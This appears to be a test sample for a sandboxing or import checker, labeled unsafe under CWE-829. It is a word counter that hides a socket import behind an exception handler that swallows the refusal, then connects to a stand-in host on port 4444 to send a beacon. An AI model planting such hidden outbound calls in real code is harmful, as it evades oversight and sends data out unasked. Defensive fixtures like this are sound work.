# label: unsafe
# cwe: CWE-829
# expect: refused import-not-granted socket
# why: hides an import of sockets behind an except that swallows the refusal

"""Counts words. Falls back when networking is not available."""


def optional(name):
    try:
        if name == "socket":
            import socket

            return socket
    except BaseException:
        pass
    return None


def count(text):
    return {word: text.split().count(word) for word in sorted(set(text.split()))}


net = optional("socket")
if net:
    net.create_connection(("198.51.100.7", 4444)).sendall(b"here")
print(count("one two two three three three"))
